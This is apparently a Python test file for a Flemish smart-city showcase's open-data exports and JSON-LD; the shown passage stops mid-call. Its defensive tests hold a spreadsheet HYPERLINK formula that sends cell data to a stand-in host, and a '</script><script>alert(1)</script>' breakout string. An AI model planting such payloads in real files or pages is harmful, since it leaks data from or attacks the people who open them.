"""Open-data downloads and JSON-LD, on the real data and on a scratch copy."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import os
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from showcase import Catalogue, check_showcase, parallel
from showcase.derive import extras
from showcase.derive.columns import FORMULA_GUARD_NL, neutralise_formula
from showcase.derive.dcat import export_dcat_catalogue
from showcase.derive.downloads import LICENCE_URL, describe_downloads
from showcase.derive.jsonld import municipality_jsonld, project_jsonld, to_script_json
from showcase.derive.neighbours import load_neighbours, neighbours_path
from showcase.derive.open_data import (
    MUNICIPALITY_COLUMNS,
    PROJECT_COLUMNS,
    _csv_bytes,
    add_radar,
    export_municipalities,
    export_municipality_map,
    export_open_data,
    export_projects,
    geometries_by_nis,
)
from showcase.derive.synergy import compute_synergies
from showcase.link.catalogue import ProjectEntry
from showcase.load.dataset import Layout
from showcase.problems import display_path

from .conftest import ROOT

SITE = "https://example.org/showcase"
PUBLISHER = "Slimme Steden en Gemeenten Vlaanderen"
ISSUES = "https://github.com/vvsg-smart-city/showcase/issues"
DATA_FILES = {
    "gemeenten.csv",
    "gemeenten.geojson",
    "gemeenten.json",
    "projecten.csv",
    "projecten.json",
    "opschalen.csv",
    "opschalen.json",
}
IGEAN = "camera-sensoren-gemeentelijke-voertuigen-igean"


@dataclass(frozen=True, repr=False)
class Real:
    """The real catalogue and its downloads.

    The short repr matters: pytest prints a failing test's arguments, and the repr of the
    catalogue's linked dataclasses (places and projects refer to each other) never ends.
    """

    catalogue: Catalogue
    files: dict[str, bytes]

    def __repr__(self) -> str:
        return "<the real showcase data and its downloads>"


@pytest.fixture(scope="module")
def real() -> Real:
    catalogue, problems = check_showcase(Layout.at(ROOT))
    assert problems == []
    return Real(catalogue, export_all(catalogue))


def export_all(catalogue: Catalogue) -> dict[str, bytes]:
    """Every download, as the build makes them (without boundaries): the open data, then the
    scale-up radar's files, which come from the synergies."""
    files = export_open_data(catalogue, publisher=PUBLISHER, site_url=SITE, contact_url=ISSUES)
    neighbours, problems = load_neighbours(neighbours_path(ROOT / "data"), catalogue)
    assert problems == []
    radar = compute_synergies(catalogue, neighbours, workers=1).radar
    options = {"publisher": PUBLISHER, "site_url": SITE, "contact_url": ISSUES}
    return add_radar(files, catalogue, radar, **options, with_geometry=False)


def read_csv(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    return list(reader.fieldnames or []), list(reader)


def project(catalogue: Catalogue, slug: str) -> ProjectEntry:
    return next(p for p in catalogue.projects if p.slug == slug)


# --- Files --------------------------------------------------------------------------------------


def test_file_names(real: Real) -> None:
    files = real.files
    assert list(files) == sorted(DATA_FILES | {"catalogus.jsonld"})
    assert {d.file_name for d in describe_downloads()} == set(files)


def test_deterministic_utf8_lf(real: Real) -> None:
    catalogue, files = real.catalogue, real.files
    assert export_all(catalogue) == files
    for name, data in files.items():
        text = data.decode("utf-8")
        assert "\r" not in text, name
        assert text.endswith("\n"), name
        assert not text.startswith("\ufeff"), name
    # Municipality names keep their letters (no \u escapes in the JSON).
    assert "Zwijndrecht" in files["gemeenten.json"].decode("utf-8")


def test_csv_as_dict_writer_writes_it() -> None:
    columns = ["a", "b,c", 'd"e']
    rows = [["x", "", "1,2"], ['say "hi"', "two\nlines", " "], ["", "", ""]]
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(dict(zip(columns, row, strict=True)) for row in rows)
    assert _csv_bytes(columns, rows) == buffer.getvalue().encode("utf-8")


def test_the_same_files_from_a_worker_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """Large sites export in a forked process, meanwhile the synergies are computed."""
    if not hasattr(os, "fork"):
        pytest.skip("no fork on this platform")
    catalogue, _ = check_showcase(Layout.at(ROOT))
    options = {"site_url": SITE, "publisher": PUBLISHER, "contact_url": ISSUES}
    alone, problems = extras.build_extras(catalogue, Layout.at(ROOT), workers=1, **options)
    assert alone is not None and problems == []
    monkeypatch.setattr(
        parallel, "THRESHOLDS", dataclasses.replace(parallel.THRESHOLDS, related_projects=0)
    )
    split, problems = extras.build_extras(catalogue, Layout.at(ROOT), workers=2, **options)
    assert split is not None and problems == []
    assert split.files == alone.files
    assert split.synergies == alone.synergies


def test_municipalities_csv_matches_json(real: Real) -> None:
    files = real.files
    header, rows = read_csv(files["gemeenten.csv"])
    records = json.loads(files["gemeenten.json"])
    assert header == list(MUNICIPALITY_COLUMNS)
    assert len(rows) == len(records) == 327
    assert [r["nis_code"] for r in rows] == sorted(r["nis_code"] for r in records)
    assert sum(r["current"] == "true" for r in rows) == 285
    integers = {"population", "project_count", "project_count_direct"}
    for row, record in zip(rows, records, strict=True):
        assert set(record) == set(MUNICIPALITY_COLUMNS)
        back: dict[str, Any] = {}
        for column, cell in row.items():
            if column in ("postal_codes", "peers"):
                back[column] = cell.split()
            elif column == "current":
                assert cell in ("true", "false")
                back[column] = cell == "true"
            elif column in integers:
                back[column] = int(cell) if cell else None
            else:
                back[column] = cell or None
        assert back == record


def test_municipality_record_zwijndrecht(real: Real) -> None:
    files = real.files
    records = {r["nis_code"]: r for r in json.loads(files["gemeenten.json"])}
    assert records["11056"] == {
        "nis_code": "11056",
        "name": "Zwijndrecht",
        "label": "Zwijndrecht",
        "slug": "zwijndrecht",
        "province": "Antwerpen",
        "arrondissement": "Antwerpen",
        "arrondissement_nis_code": "11000",
        "valid_from": None,
        "valid_until": "2024-12-31",
        "successor_nis_code": "46030",
        "current": False,
        "current_nis_code": "46030",
        "population": 19154,
        "population_reference_date": "2020-01-01",
        "population_source": "Statbel, wettelijke bevolking op 1 januari 2020",
        "population_note": None,
        "postal_codes": ["2070"],
        "website": None,
        "website_source": None,
        "contact_role": None,
        "contact_email": None,
        "contact_url": None,
        "contact_source": None,
        "project_count": 0,
        "project_count_direct": 0,
        "peers": [],
        "url": "/gemeenten/zwijndrecht/",
        "url_absolute": f"{SITE}/gemeenten/zwijndrecht/",
        "oslo_uri": "https://data.vlaanderen.be/id/gemeente/11056",
    }
    # Kortessem went into Hasselt's new code; Borsbeek's project is Antwerpen's own since the
    # merger (one count definition: Place.project_counts); Lommel has one only through s-LIM.
    assert records["73040"]["current_nis_code"] == "71072"
    antwerpen = records["11002"]
    assert antwerpen["project_count"] == antwerpen["project_count_direct"] == 11
    lommel = records["72020"]
    assert (lommel["project_count"], lommel["project_count_direct"]) == (1, 0)
    assert "2150" in antwerpen["postal_codes"]


def test_without_site_url_urls_stay_relative(real: Real) -> None:
    catalogue = real.catalogue
    records = json.loads(export_municipalities(catalogue)["gemeenten.json"])
    assert {r["url_absolute"] for r in records} == {None}
    assert records[0]["url"] == "/gemeenten/aartselaar/"


def test_geojson_current_municipalities(real: Real) -> None:
    files = real.files
    collection = json.loads(files["gemeenten.geojson"])
    assert collection["type"] == "FeatureCollection"
    features = collection["features"]
    assert len(features) == 285
    assert [f["id"] for f in features] == sorted(f["id"] for f in features)
    assert {f["type"] for f in features} == {"Feature"}
    assert all(f["geometry"] is None for f in features)
    records = {r["nis_code"]: r for r in json.loads(files["gemeenten.json"])}
    for feature in features:
        assert feature["properties"] == records[feature["id"]]
        assert feature["properties"]["current"] is True
    assert "11056" not in {f["id"] for f in features}
    assert "46030" in {f["id"] for f in features}


def test_geojson_with_geometries(real: Real) -> None:
    catalogue = real.catalogue
    boundaries = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"nis_code": p.nis_code},
                "geometry": {"type": "Point", "coordinates": [4.5, 51.0]},
            }
            for p in catalogue.places.values()
        ],
    }
    geometries = geometries_by_nis(boundaries)
    assert len(geometries) == 327
    data = export_municipality_map(catalogue, geometries)["gemeenten.geojson"]
    features = json.loads(data)["features"]
    assert all(f["geometry"] == {"type": "Point", "coordinates": [4.5, 51.0]} for f in features)
    # One feature per line.
    assert len(data.decode("utf-8").splitlines()) == 285 + 2
    del geometries["46030"], geometries["44021"]
    with pytest.raises(ValueError) as error:
        export_municipality_map(catalogue, geometries)
    assert str(error.value) == "geen grens voor 2 huidige gemeenten: 44021, 46030"


def test_projects_csv_matches_json(real: Real) -> None:
    catalogue, files = real.catalogue, real.files
    header, rows = read_csv(files["projecten.csv"])
    records = json.loads(files["projecten.json"])
    assert header == list(PROJECT_COLUMNS)
    assert len(rows) == len(records) == len(catalogue.projects)
    assert [r["slug"] for r in records] == sorted(p.slug for p in catalogue.projects)

    def group(row: dict[str, str], first: str, *columns: str) -> list[list[str]]:
        count = len(row[first].split("\n")) if row[first] else 0
        cells = [row[c].split("\n") if count else [] for c in (first, *columns)]
        assert {len(c) for c in cells} <= {count}
        return [list(item) for item in zip(*cells, strict=True)]

    for row, record in zip(rows, records, strict=True):
        for column in ("slug", "title", "summary", "kind", "status", "last_reviewed", "url"):
            assert row[column] == record[column]
        assert row["url_absolute"] == f"{SITE}{record['url']}"
        assert (row["start"] or None, row["end"] or None) == (record["start"], record["end"])
        places = record["municipalities"]
        assert row["municipalities"].split() == [m["slug"] for m in places]
        assert row["municipality_nis_codes"].split() == [m["nis_code"] for m in places]
        currents = list(dict.fromkeys(m["current_slug"] for m in places))
        assert row["current_municipalities"].split() == currents
        assert row["regions"].split() == [r["slug"] for r in record["regions"]]
        assert row["provinces"].split("\n") == [p["name"] for p in record["provinces"]]
        assert row["themes"].split() == [t["slug"] for t in record["themes"]]
        assert row["theme_labels"].split("\n") == [t["label"] for t in record["themes"]]
        assert group(row, "partner_names", "partner_types", "partner_organisations") == [
            [p["name"], p["type"], p["organisation"]] for p in record["partners"]
        ]
        assert group(row, "funding_programmes", "funding_amounts_eur", "funding_years") == [
            [f["programme"], str(f["amount_eur"] or ""), str(f["year"] or "")]
            for f in record["funding"]
        ]
        assert group(row, "source_titles", "source_urls", "source_dates", "source_accessed") == [
            [s["title"], s["url"], s["date"] or "", s["accessed"] or ""] for s in record["sources"]
        ]


def test_project_record(real: Real) -> None:
    files = real.files
    records = {r["slug"]: r for r in json.loads(files["projecten.json"])}
    record = records[IGEAN]
    assert set(record) == {
        "slug",
        "title",
        "summary",
        "kind",
        "status",
        "status_as_of",
        "start",
        "end",
        "municipalities",
        "regions",
        "provinces",
        "themes",
        "partners",
        "funding",
        "sources",
        "contact",
        "last_reviewed",
        "url",
        "url_absolute",
    }
    assert (record["kind"], record["status"], record["start"], record["end"]) == (
        "project",
        "lopend",
        "2018",
        None,
    )
    assert len(record["municipalities"]) == 14
    assert record["municipalities"][5] == {
        "nis_code": "11007",
        "slug": "borsbeek",
        "name": "Borsbeek",
        "current_nis_code": "11002",
        "current_slug": "antwerpen",
    }
    assert record["partners"] == [
        {
            "name": "IGEAN",
            "type": "intercommunale",
            "organisation": "IGEAN",
            "organisation_url": "/partners/igean/",
        }
    ]
    assert record["funding"] == [
        {"programme": "City of Things (VLAIO)", "amount_eur": 200000, "year": 2018}
    ]
    assert record["sources"] == [
        {
            "title": "Slimme camera's op wagens gemeente (HLN)",
            "url": "https://www.hln.be/regio/edegem/slimme-camera-s-op-wagens-gemeente~a508a4be/",
            "date": "2018-08-24",
            "accessed": "2026-11-26",
        }
    ]
    assert [t["slug"] for t in record["themes"]] == ["afval", "mobiliteit", "veiligheid"]
    assert all(set(t) == {"slug", "label", "domain"} for t in record["themes"])
    assert record["last_reviewed"] == "2026-11-26"
    assert record["url_absolute"] == f"{SITE}/projecten/{IGEAN}/"
    assert record["provinces"] == [{"slug": "antwerpen", "name": "Antwerpen"}]


def test_project_provinces_count_as_the_province_pages_do(real: Real) -> None:
    """A project's provinces in the open data are those of its current municipalities and of
    its regions' members: the projects each province page lists, no more and no fewer."""
    catalogue = real.catalogue
    _, rows = read_csv(real.files["projecten.csv"])
    listed = {row["slug"]: set(row["provinces"].split("\n")) for row in rows}
    for province in catalogue.provinces:
        assert {slug for slug, names in listed.items() if province.name in names} == {
            p.slug for p in province.projects
        }, province.name
    # A project that names no municipality gets its provinces through its regions.
    regional = [p for p in catalogue.projects if p.regions and not p.places]
    assert regional
    for entry in regional:
        members = {m.final.province.name for r in entry.regions for m in r.members}
        assert listed[entry.slug] == members, entry.slug


# --- The DCAT catalogue -------------------------------------------------------------------------


def test_dcat_catalogue_lists_every_file(real: Real) -> None:
    catalogue, files = real.catalogue, real.files
    document = json.loads(files["catalogus.jsonld"])
    newest = max(p.record.last_reviewed for p in catalogue.projects).isoformat()
    assert document["@type"] == "dcat:Catalog"
    assert document["@context"]["dcat"] == "http://www.w3.org/ns/dcat#"
    assert document["dct:publisher"] == {"@type": "foaf:Agent", "foaf:name": PUBLISHER}
    assert document["dct:modified"] == {"@type": "xsd:date", "@value": newest}
    assert document["dct:issued"] == {"@type": "xsd:date", "@value": newest}

    def dates(node: Any) -> set[str]:
        if isinstance(node, list):
            return set().union(*map(dates, node))
        if not isinstance(node, dict):
            return set()
        found = {node["@value"]} if node.get("@type") == "xsd:date" else set()
        return found.union(*map(dates, node.values()))

    assert dates(document) == {newest}  # the data's date only, never the clock
    datasets = {d["@id"]: d for d in document["dcat:dataset"]}
    assert set(datasets) == {
        f"{SITE}/open-data/#gemeenten",
        f"{SITE}/open-data/#projecten",
        f"{SITE}/open-data/#opschalen",
    }
    media_types = {d.file_name: d.media_type for d in describe_downloads()}
    listed = {}
    for dataset in datasets.values():
        assert dataset["@type"] == "dcat:Dataset"
        assert dataset["dcat:contactPoint"] == {
            "@type": "vcard:Organization",
            "vcard:fn": PUBLISHER,
            "vcard:hasURL": {"@id": ISSUES},
        }
        assert dataset["dct:title"]["@language"] == "nl"
        assert dataset["dct:modified"]["@value"] == newest
        for distribution in dataset["dcat:distribution"]:
            url = distribution["dcat:downloadURL"]["@id"]
            name = url.removeprefix(f"{SITE}/open-data/")
            listed[name] = dataset["@id"]
            assert distribution["@type"] == "dcat:Distribution"
            assert distribution["dct:license"]["@id"] == LICENCE_URL
            assert distribution["dcat:accessURL"] == {"@id": url}
            iana = f"https://www.iana.org/assignments/media-types/{media_types[name]}"
            assert distribution["dcat:mediaType"] == {"@id": iana}
            assert distribution["dcat:byteSize"]["@value"] == str(len(files[name]))
            checksum = distribution["spdx:checksum"]["spdx:checksumValue"]["@value"]
            assert checksum == hashlib.sha256(files[name]).hexdigest()
    assert set(listed) == DATA_FILES
    assert listed["gemeenten.geojson"] == f"{SITE}/open-data/#gemeenten"
    assert listed["projecten.csv"] == f"{SITE}/open-data/#projecten"
    assert listed["opschalen.json"] == f"{SITE}/open-data/#opschalen"
    municipalities = datasets[f"{SITE}/open-data/#gemeenten"]
    credit = municipalities["dct:rights"]["rdfs:label"]["@value"]
    assert "Statbel" in credit and "Provincies in Cijfers" in credit
    assert {"@id": "https://statbel.fgov.be/"} in municipalities["dct:source"]


def test_dcat_catalogue_refuses_unknown_files(real: Real) -> None:
    catalogue = real.catalogue
    with pytest.raises(ValueError) as error:
        export_dcat_catalogue(catalogue, {"extra.csv": b""}, publisher=PUBLISHER)
    assert str(error.value) == "not a known download: extra.csv"


def test_describe_downloads() -> None:
    downloads = describe_downloads()
    assert [d.file_name for d in downloads] == [
        "gemeenten.json",
        "gemeenten.csv",
        "gemeenten.geojson",
        "projecten.json",
        "projecten.csv",
        "opschalen.json",
        "opschalen.csv",
        "catalogus.jsonld",
    ]
    for download in downloads:
        assert download.title and download.description and download.sources
        assert download.licence_url == LICENCE_URL
        assert download.url == f"/open-data/{download.file_name}"
    by_name = {d.file_name: d for d in downloads}
    assert by_name["gemeenten.csv"].media_type == "text/csv"
    assert by_name["gemeenten.geojson"].media_type == "application/geo+json"
    assert by_name["catalogus.jsonld"].media_type == "application/ld+json"
    assert {s.name for s in by_name["gemeenten.json"].sources} >= {
        "Statbel",
        "Provincies in Cijfers",
    }
    without = {d.file_name: d for d in describe_downloads(with_geometry=False)}
    assert "geometry null" in without["gemeenten.geojson"].description
    assert "geometry null" not in by_name["gemeenten.geojson"].description


# --- JSON-LD for pages ------------------------------------------------------------------------


def test_municipality_jsonld_zwijndrecht(real: Real) -> None:
    catalogue = real.catalogue
    data = municipality_jsonld(catalogue.by_slug["zwijndrecht"], site_url=SITE)
    assert data == {
        "@context": "https://schema.org",
        "@type": "AdministrativeArea",
        "name": "Zwijndrecht",
        "description": "Zwijndrecht is op 1 januari 2025 opgegaan in Beveren-Kruibeke-Zwijndrecht.",
        "identifier": {"@type": "PropertyValue", "propertyID": "NIS", "value": "11056"},
        "sameAs": "https://data.vlaanderen.be/id/gemeente/11056",
        "url": f"{SITE}/gemeenten/zwijndrecht/",
        "containedInPlace": [
            {
                "@type": "AdministrativeArea",
                "name": "Provincie Antwerpen",
                "url": f"{SITE}/provincies/antwerpen/",
            },
            {
                "@type": "AdministrativeArea",
                "name": "Beveren-Kruibeke-Zwijndrecht",
                "identifier": {"@type": "PropertyValue", "propertyID": "NIS", "value": "46030"},
                "sameAs": "https://data.vlaanderen.be/id/gemeente/46030",
                "url": f"{SITE}/gemeenten/beveren-kruibeke-zwijndrecht/",
            },
        ],
    }


def test_municipality_jsonld_successor_lists_predecessors(real: Real) -> None:
    catalogue = real.catalogue
    data = municipality_jsonld(catalogue.by_slug["beveren-kruibeke-zwijndrecht"])
    assert data["url"] == "/gemeenten/beveren-kruibeke-zwijndrecht/"
    assert [p["name"] for p in data["containedInPlace"]] == ["Provincie Oost-Vlaanderen"]
    assert {(p["identifier"]["value"], p["name"]) for p in data["containsPlace"]} == {
        ("46003", "Beveren"),
        ("46013", "Kruibeke"),
        ("11056", "Zwijndrecht"),
    }
    assert "Ze omvat ook het grondgebied van" in data["description"]
    deinze = municipality_jsonld(catalogue.by_slug["deinze"])
    assert deinze["description"] == (
        "Deinze is een gemeente in de provincie Oost-Vlaanderen (arrondissement Gent). "
        "Ze omvat ook het grondgebied van Deinze (tot 2018) en Nevele."
    )
    old = next(p for p in deinze["containsPlace"] if p["identifier"]["value"] == "44011")
    assert (old["name"], old["alternateName"]) == ("Deinze", "Deinze (tot 2018)")


def test_project_jsonld(real: Real) -> None:
    catalogue = real.catalogue
    data = project_jsonld(project(catalogue, IGEAN), site_url=SITE)
    assert list(data) == [
        "@context",
        "@type",
        "name",
        "description",
        "url",
        "foundingDate",
        "areaServed",
        "keywords",
        "member",
        "funder",
        "funding",
        "subjectOf",
    ]
    assert data["@type"] == "Project"
    assert data["name"] == "Camera's en sensoren op gemeentelijke voertuigen (IGEAN-regio)"
    assert data["url"] == f"{SITE}/projecten/{IGEAN}/"
    assert data["foundingDate"] == "2018"
    assert len(data["areaServed"]) == 14
    assert data["areaServed"][5] == {
        "@type": "AdministrativeArea",
        "name": "Borsbeek",
        "identifier": {"@type": "PropertyValue", "propertyID": "NIS", "value": "11007"},
        "sameAs": "https://data.vlaanderen.be/id/gemeente/11007",
        "url": f"{SITE}/gemeenten/borsbeek/",
    }
    labels = [t.label for t in project(catalogue, IGEAN).themes]
    assert data["keywords"] == labels and len(labels) == 3
    assert data["member"] == [{"@type": "GovernmentOrganization", "name": "IGEAN"}]
    assert data["funder"] == [{"@type": "Organization", "name": "City of Things (VLAIO)"}]
    assert data["funding"] == [
        {
            "@type": "MonetaryGrant",
            "name": "City of Things (VLAIO)",
            "amount": {"@type": "MonetaryAmount", "currency": "EUR", "value": 200000},
            "description": "Toegekend in 2018.",
        }
    ]
    assert data["subjectOf"] == [
        {
            "@type": "CreativeWork",
            "name": "Slimme camera's op wagens gemeente (HLN)",
            "url": "https://www.hln.be/regio/edegem/slimme-camera-s-op-wagens-gemeente~a508a4be/",
            "datePublished": "2018-08-24",
        }
    ]


def test_project_jsonld_with_end_and_regions(real: Real) -> None:
    catalogue = real.catalogue
    water = project_jsonld(project(catalogue, "internet-of-water-flanders"))
    assert (water["foundingDate"], water["dissolutionDate"]) == ("2019", "2023")
    assert water["url"] == "/projecten/internet-of-water-flanders/"
    s_lim = next(p for p in catalogue.projects if any(r.slug == "limburg" for r in p.regions))
    areas = project_jsonld(s_lim)["areaServed"]
    assert {"@type": "Place", "name": "Limburg"} in areas


def test_to_script_json_escapes() -> None:
    value = {"name": "Tot </script><script>alert(1)</script> & <!-- ja -->", "n": 1}
    text = to_script_json(value)
    assert "</script>" not in text.lower()
    assert not {"<", ">", "&"} & set(text)
    assert "\\u003c/script\\u003e" in text
    assert "\\u0026" in text
    assert json.loads(text) == value
    assert to_script_json({"t": "a\u2028b"}) == '{"t":"a\\u2028b"}'
    assert to_script_json({"naam": "Sint-Gillis-Waas ë"}) == '{"naam":"Sint-Gillis-Waas ë"}'


# --- A hostile project on a scratch copy ------------------------------------------------------


def test_hostile_project_text(scratch: Path) -> None:
    path = scratch / "content/projecten/internet-of-water-flanders.md"
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        'title: "Internet of Water Flanders"',
        'title: "Water </script><!-- & \\"co\\", ook; met | streep"',
    ).replace('  - name: "VITO"', '  - name: "VITO, \\"Mol\\"; twee\\nregels"')
    path.write_text(text, encoding="utf-8")
    catalogue, problems = check_showcase(Layout.at(scratch))
    assert problems == []
    entry = project(catalogue, "internet-of-water-flanders")
    assert entry.record.title == 'Water </script><!-- & "co", ook; met | streep'
    script = to_script_json(project_jsonld(entry))
    assert "<" not in script
    assert json.loads(script)["name"] == entry.record.title

    files = export_projects(catalogue)
    _, rows = read_csv(files["projecten.csv"])
    row = next(r for r in rows if r["slug"] == "internet-of-water-flanders")
    assert row["title"] == entry.record.title
    # A line break inside a list item becomes a space in the CSV; the JSON keeps it.
    assert row["partner_names"].split("\n")[0] == 'VITO, "Mol"; twee regels'
    assert len(row["partner_names"].split("\n")) == len(row["partner_types"].split("\n")) == 7
    record = next(
        r for r in json.loads(files["projecten.json"]) if r["slug"] == "internet-of-water-flanders"
    )
    assert record["partners"][0]["name"] == 'VITO, "Mol"; twee\nregels'


# --- Formulas in spreadsheets (CSV injection) ---------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://example.org/?d="&A1;"klik")',
            '\'=HYPERLINK("https://example.org/?d="&A1;"klik")',
        ),
        ("+32 9 123 45 67", "'+32 9 123 45 67"),
        ("-A1+B1", "'-A1+B1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        # Plain numbers stay numbers: a spreadsheet reads them as numbers, never as formulas.
        ("-3", "-3"),
        ("-2.5", "-2.5"),
        ("200000", "200000"),
        # Only the start of a cell counts; a quote in front already makes it text.
        ("a=b", "a=b"),
        ("Sint-Niklaas", "Sint-Niklaas"),
        ("'=1+1", "'=1+1"),
        ("", ""),
        ("-3\n=1+1", "'-3\n=1+1"),
    ],
)
def test_neutralise_formula(cell: str, written: str) -> None:
    assert neutralise_formula(cell) == written


def test_every_csv_writes_no_formula() -> None:
    """The guard sits in the one function that writes every CSV: cells and header."""
    data = _csv_bytes(["=kolom", "n"], [['=HYPERLINK("x")', "-3"], ["@a", "-1.5"]])
    assert data.decode("utf-8") == ('\'=kolom,n\n"\'=HYPERLINK(""x"")",-3\n\'@a,-1.5\n')


def test_no_cell_of_the_real_csvs_starts_a_formula(real: Real) -> None:
    for name, data in real.files.items():
        if not name.endswith(".csv"):
            continue
        _, rows = read_csv(data)
        for row in rows:
            for column, cell in row.items():
                assert neutralise_formula(cell) == cell, (name, column, cell)


# --- What the open-data page says about the files ----------------------------------------------


def test_every_csv_column_is_described(real: Real) -> None:
    """The columns of each CSV come from showcase.derive.columns, with what each holds."""
    csvs = [d for d in describe_downloads() if d.media_type == "text/csv"]
    assert [d.file_name for d in csvs] == ["gemeenten.csv", "projecten.csv", "opschalen.csv"]
    for download in csvs:
        header, _ = read_csv(real.files[download.file_name])
        assert [c.name for c in download.columns] == header, download.file_name
        for column in download.columns:
            assert column.description.strip(), (download.file_name, column.name)
        assert FORMULA_GUARD_NL in download.description
    assert all(not d.columns for d in describe_downloads() if d.media_type != "text/csv")


def test_one_heading_per_file_and_each_source_once() -> None:
    downloads = describe_downloads()
    headings = [d.heading for d in downloads]
    assert headings == [
        "Gemeenten (JSON)",
        "Gemeenten (CSV)",
        "Gemeenten op de kaart (GeoJSON)",
        "Projecten (JSON)",
        "Projecten (CSV)",
        "Opschalen (JSON)",
        "Opschalen (CSV)",
        "DCAT-AP-catalogus (JSON-LD)",
    ]
    for download in [*downloads, *describe_downloads(with_geometry=False)]:
        names = [s.name for s in download.sources]
        assert len(names) == len(set(names)), download.file_name
    geojson = next(d for d in downloads if d.file_name == "gemeenten.geojson")
    credit = next(s for s in geojson.sources if s.name == "Provincies in Cijfers")
    assert "fusies" in credit.note and "gemeentegrenzen" in credit.note


# --- A hostile title, published --------------------------------------------------------------


def test_published_open_data_with_a_hostile_title(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A scratch site built with publishconf.py (SHOWCASE_SITEURL sets the address): absolute
    URLs in the files, no live formula in the CSV, and the open-data page as a visitor reads it."""
    from bs4 import BeautifulSoup

    from pelican_showcase.build import build

    from .conftest import FIXTURES

    site = "https://example.org/showcase"
    shutil.copytree(ROOT / "data", tmp_path / "data")
    shutil.copytree(ROOT / "content", tmp_path / "content")
    for folder in (FIXTURES / "content").iterdir():
        shutil.copytree(folder, tmp_path / "content" / folder.name, dirs_exist_ok=True)
    for name in ("pelicanconf.py", "publishconf.py"):
        shutil.copy(ROOT / name, tmp_path / name)
    hostile = '=HYPERLINK("https://example.org/?d="&A1;"Internet of Water")'
    path = tmp_path / "content/projecten/internet-of-water-flanders.md"
    text = path.read_text(encoding="utf-8")
    text = text.replace('title: "Internet of Water Flanders"', f"title: '{hostile}'")
    path.write_text(text, encoding="utf-8")
    path = tmp_path / f"content/projecten/{IGEAN}.md"
    text = path.read_text(encoding="utf-8").replace('  - name: "IGEAN"', '  - name: "-40"')
    path.write_text(text, encoding="utf-8")
    monkeypatch.setenv("SHOWCASE_SITEURL", site)
    overrides = {
        "THEME": str(ROOT / "theme"),
        "PLUGIN_PATHS": [str(ROOT / "plugins")],
        "SHOWCASE_CHECK_HTML": False,
    }
    output = tmp_path / "output"
    assert build(tmp_path / "publishconf.py", output, overrides=overrides) == 0

    folder = output / "open-data"
    _, rows = read_csv((folder / "projecten.csv").read_bytes())
    row = next(r for r in rows if r["slug"] == "internet-of-water-flanders")
    assert row["title"] == f"'{hostile}"
    assert row["partner_names"].startswith("VITO\nimec\n")
    assert row["funding_amounts_eur"] == "9000000"
    igean = next(r for r in rows if r["slug"] == IGEAN)
    assert igean["partner_names"] == "-40"  # a number stays a number
    for name in ("projecten.csv", "gemeenten.csv"):
        _, rows = read_csv((folder / name).read_bytes())
        assert all(r["url_absolute"] == f"{site}{r['url']}" for r in rows), name
    _, rows = read_csv((folder / "opschalen.csv").read_bytes())
    assert rows and all(r["project_url"] == f"/projecten/{r['project_slug']}/" for r in rows)
    assert all(r["project_url_absolute"] == f"{site}{r['project_url']}" for r in rows)
    records = json.loads((folder / "projecten.json").read_text(encoding="utf-8"))
    record = next(r for r in records if r["slug"] == "internet-of-water-flanders")
    assert record["title"] == hostile  # the JSON keeps the text as written
    assert all(r["url_absolute"] == f"{site}{r['url']}" for r in records)
    catalogue = json.loads((folder / "catalogus.jsonld").read_text(encoding="utf-8"))
    assert catalogue["@id"] == f"{site}/open-data/#catalogus"
    for dataset in catalogue["dcat:dataset"]:
        assert dataset["@id"].startswith(f"{site}/open-data/#")
        for distribution in dataset["dcat:distribution"]:
            assert distribution["dcat:downloadURL"]["@id"].startswith(f"{site}/open-data/")
    page = (output / "projecten/internet-of-water-flanders/index.html").read_text("utf-8")
    jsonld = BeautifulSoup(page, "html.parser").select_one('script[type="application/ld+json"]')
    assert jsonld is not None
    assert json.loads(jsonld.string or "")["url"] == f"{site}/projecten/internet-of-water-flanders/"

    soup = BeautifulSoup((folder / "index.html").read_text("utf-8"), "html.parser")
    items = soup.select("ul.downloads > li")
    headings = [li.h2.get_text(" ", strip=True) for li in items if li.h2]
    assert headings == [d.heading for d in describe_downloads()]
    assert not any(h.count("(") > 1 or "JSON_LD" in h for h in headings)
    for li in items:
        credits = [a.get_text(strip=True) for a in li.select("p.muted a")][1:]  # after licence
        assert len(credits) == len(set(credits)), credits
        link = li.h2.a if li.h2 else None
        assert link is not None and link["href"].startswith(f"{site}/open-data/")
    described = {}
    for li in items:
        columns = [dt.get_text(strip=True) for dt in li.select("details.csv-columns dt")]
        if columns:
            described[li.select_one("p.muted").get_text(strip=True)] = columns
    for name in ("gemeenten.csv", "projecten.csv", "opschalen.csv"):
        header, _ = read_csv((folder / name).read_bytes())
        assert described[name] == header, name
    assert soup.get_text().count(FORMULA_GUARD_NL) == 3


@pytest.mark.parametrize("workers", [1, 2])
def test_an_unreadable_boundary_file_stops_the_extras_with_its_problem(
    scratch: Path, workers: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The boundaries are read beside the synergies (in a forked process on a large
    catalogue): a broken file is still one located problem, and nothing is published."""
    monkeypatch.setattr(
        parallel, "THRESHOLDS", dataclasses.replace(parallel.THRESHOLDS, related_projects=0)
    )
    layout = Layout.at(scratch)
    layout.boundaries.write_text("{niet: geldig", encoding="utf-8")
    catalogue, problems = check_showcase(layout)
    assert problems == []
    found_extras, found = extras.build_extras(
        catalogue, layout, site_url="", publisher=PUBLISHER, contact_url=None, workers=workers
    )
    assert found_extras is None
    assert [(p.path, p.line, p.message.split(":")[0]) for p in found] == [
        (display_path(layout.boundaries, layout.root), 1, "het grenzenbestand is onleesbaar")
    ]
    # With a broken neighbour table too, both are reported at once.
    layout.neighbours.write_text("niet,de,juiste,kolommen\n", encoding="utf-8")
    found_extras, found = extras.build_extras(
